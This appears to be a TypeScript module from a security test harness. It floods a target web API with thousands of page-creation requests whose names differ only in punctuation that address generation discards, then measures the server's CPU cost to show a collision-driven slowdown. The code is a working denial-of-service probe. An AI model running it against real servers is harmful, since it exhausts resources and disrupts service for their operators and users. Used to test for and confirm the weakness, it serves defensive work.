import type { Running } from '../processes.ts';
import { type Request, send, type Target } from './attack.ts';
import { sendOnce } from './client.ts';
import { cpuTimeOf, cpuTimeSince } from './cost.ts';

const NAMES = 16_000;
const CONNECTIONS = 16;

/** Creates pages with different names and colliding addresses; compares the cost of the last thousand with the first. */
export async function measureNames(target: Target, { pid }: Running): Promise<{ first: number; last: number }> {
  let next = 0;
  const createUntil = async (end: number) => {
    const cpu = cpuTimeOf(pid);
    const creators = Array.from({ length: CONNECTIONS }, async () => {
      while (next < end) {
        next += 1;
        const { status } = await sendOnce(target.port, creation(target, next));
        if (status !== 200) throw new Error(`A page was not created: ${status}`);
      }
    });
    await Promise.all(creators);
    return cpuTimeSince(pid, cpu);
  };
  const first = await createUntil(1000);
  await createUntil(NAMES - 1000);
  return { first, last: await createUntil(NAMES) };
}

/** Returns a creation whose name contains the number in characters that addresses leave out. */
function creation({ attacker }: Target, number: number): Request {
  const signs = [...number.toString(8)].map((digit) => '!?.,;:*"'[Number(digit)]).join('');
  const query = new URLSearchParams({ api_key: attacker.key, 'page[name]': `Same${signs}` });
  return send('POST', `/api/pages.json?${query}`, { type: 'application/json', body: Buffer.alloc(0) });
}
